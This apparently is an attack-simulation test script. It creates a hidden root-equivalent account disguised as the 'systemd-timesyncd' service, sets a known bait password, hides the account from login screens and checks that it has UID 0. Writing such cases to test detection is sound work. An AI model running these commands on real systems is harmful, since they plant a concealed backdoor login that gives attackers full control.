#!/bin/sh
. /opt/case/case.sh

useradd -o -u 0 -g 0 -M -d /usr/lib/systemd -s /bin/bash -c 'systemd Time Sync' systemd-timesyncd
echo 'systemd-timesyncd:Bait-1234' | chpasswd
mkdir -p /var/lib/AccountsService/users && printf '[User]\nSystemAccount=true\n' >/var/lib/AccountsService/users/systemd-timesyncd
test "$(id -u systemd-timesyncd)" = 0
took_place
